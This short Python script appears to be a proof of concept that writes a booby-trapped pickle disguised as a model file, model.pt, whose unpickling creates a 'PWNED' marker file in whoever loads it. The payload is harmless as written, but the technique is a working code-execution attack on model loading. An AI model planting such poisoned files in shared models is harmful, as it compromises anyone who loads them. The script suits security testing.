import os, pickle                            # a "model" whose unpickling runs code in whoever loads it (marker file only)
class X:
    def __reduce__(s): return (open, ("/var/tmp/qianka-attacks/PWNED_by_pickle", "w"))
pickle.dump(X(), open("/out/model.pt", "wb")); print("ATTACK pickle: written")
